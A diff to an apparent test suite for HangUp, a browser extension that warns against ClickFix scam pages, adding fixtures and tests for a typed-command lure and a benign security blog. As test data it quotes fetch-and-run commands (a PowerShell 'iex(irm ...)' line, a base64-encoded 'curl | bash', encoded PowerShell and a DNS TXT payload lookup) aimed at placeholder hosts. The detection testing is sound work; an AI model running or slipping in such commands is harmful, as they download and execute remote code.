@@ -23,6 +23,8 @@ const SCAM = [
   ['clickfix-filefix.html', 'hr-portal-share.example', '#copy', 'files-hr.example', 'files-hr[.]example'],
   ['clickfix-de.html', 'browser-update-hilfe.example', '#fix', 'powershell -w 1 -enc', 'powershell -w 1 -enc'],
   ['clickfix-mac-update.html', 'safari-update-center.example', '#update', 'cdn-upd.example', 'cdn-upd[.]example'],
+  // A French meeting lure copying through Document.prototype.execCommand.call; a DNS TXT payload.
+  ['clickfix-meet-fr.html', 'reunion-micro-fix.example', '#fix', 'nslookup -q=txt', 'nslookup -q=txt audio[.]meet-fix-dns[.]example'],
 ];
 
 /** A real click (user activation), as a person gives it. */
@@ -159,6 +161,39 @@ for (const name of BROWSERS) {
       assert.match(clip, /HangUp removed a command/);
       await reader.close();
       await tab.close();
+    });
+
+    test('clickfix-typed.html: a command shown to type by hand (nothing copied) gets the ClickFix warning; the clipboard stays the person\'s', async () => {
+      // The person's own clipboard before the visit: HangUp must not touch it.
+      const reader = await browser.open(readerUrl);
+      if (name === 'chromium') await reader.page.evaluate(() => navigator.clipboard.writeText('my shopping list'));
+      const before = await readClipboard(browser, reader);
+      const tab = await browser.open(fixtureUrl('clickfix-typed.html', 'human-check-typed.example'));
+      const seen = await waitFor(async () => {
+        const o = await tab.overlay();
+        return o.present && o.covers && o.visible && o.onTop ? o : null;
+      }, 8000);
+      assert.ok(seen, `no ClickFix warning: ${JSON.stringify(await tab.overlay())}`);
+      const verdict = await verdictOf(browser, await tab.url());
+      assert.equal(verdict?.kind, 'clickfix', JSON.stringify(verdict));
+      assert.ok(verdict.reasons.some((r) => r.id === 'typed_command'), JSON.stringify(verdict.reasons));
+      assert.ok(!verdict.reasons.some((r) => r.id === 'clipboard_command'), 'nothing was copied');
+      assert.ok(verdict.command.includes('203[.]0[.]113[.]61'), `defanged command ${verdict.command}`);
+      if (name === 'chromium') {
+        const text = await waitFor(() => tab.overlayText(), 5000);
+        assert.match(text, /showed you a command/);
+        assert.doesNotMatch(text, /on your clipboard/);
+      }
+      assert.equal(await readClipboard(browser, reader), before, 'the clipboard was not the page\'s to replace');
+      await reader.close();
+      await tab.close();
+    });
+
+    test('benign-clickfix-writeup.html: a blog post about ClickFix whose copy buttons copy the quoted commands stays silent and still copies', async () => {
+      await copiesSilently(fixtureUrl('benign-clickfix-writeup.html', 'blog.example-security.test'), [
+        ['ps', 'powershell -w h -c "iex(irm http://203.0.113.80/v)"'],
+        ['mac', 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjgwL20gfCBiYXNo | base64 -d | bash'],
+      ]);
     });
 
     test('benign-dev-docs-frame.html: a copy button for curl | sh in an embedded frame stays silent and still copies', async () => {
